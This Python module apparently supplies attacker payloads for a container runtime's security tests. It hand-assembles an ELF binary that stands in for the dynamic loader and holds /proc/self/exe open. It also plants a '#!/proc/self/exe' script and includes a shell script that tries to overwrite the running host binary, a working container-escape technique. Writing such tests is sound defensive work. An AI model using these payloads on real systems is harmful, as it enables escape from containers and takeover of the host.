"""What attackers bring along, for tests of several rooms."""

from __future__ import annotations

import struct
from pathlib import Path

LOADER = Path("/lib64/ld-linux-x86-64.so.2")
"""Where programs of x86_64 look for their dynamic loader."""


def waiting_loader() -> bytes:
    """A program that opens /proc/self/exe for reading as descriptor 9 and waits: what an attacker puts in the place of
    the dynamic loader, to be in control of whatever host program is executed in his container."""
    path = b"/proc/self/exe\0"
    code = bytes.fromhex(
        "b802000000"  # mov eax, 2 (open)
        "488d3d20000000"  # lea rdi, [rip + 32] (path)
        "31f6"  # xor esi, esi
        "0f05"  # syscall
        "89c7"  # mov edi, eax
        "be09000000"  # mov esi, 9
        "b821000000"  # mov eax, 33 (dup2)
        "0f05"  # syscall
        "b822000000"  # mov eax, 34 (pause)
        "0f05"  # syscall
        "ebf7"  # jmp back to pause
    ).ljust(0x2C, b"\x90")
    offset, address = 0x78, 0x10000
    body = code + path
    header = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, offset, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    size = offset + len(body)
    return header + struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, size, size, address) + body


def swap(folder: Path) -> None:
    """Put the loader, and a script that the kernel runs by executing the runtime's own file, into a folder."""
    for name, content in ((LOADER.name, waiting_loader()), ("tool", b"#!/proc/self/exe\n")):
        (folder / name).write_bytes(content)
        (folder / name).chmod(0o755)


OVERWRITING = """
    pid=
    while [ -z "$pid" ]; do for p in /proc/[0-9]*; do [ -e $p/fd/9 ] && pid=${p#/proc/} && break; done; done
    readlink /proc/$pid/exe
    (echo overwritten > /proc/$pid/exe) 2>/dev/null && echo WRITTEN while it runs
    exec 8</proc/$pid/fd/9
    readlink /proc/self/fd/8
    [ $pid = 1 ] || kill -9 $pid
    for try in 1 2 3; do (echo overwritten > /proc/self/fd/8) 2>/dev/null && echo WRITTEN; sleep 0.1; done
    (echo overwritten >> /proc/self/fd/8) 2>/dev/null && echo WRITTEN
    true
"""
"""A shell script that waits for a process with that loader and tries to write to the file that it runs from, while it runs
and afterwards. Says what file it is, twice, and WRITTEN if it could."""
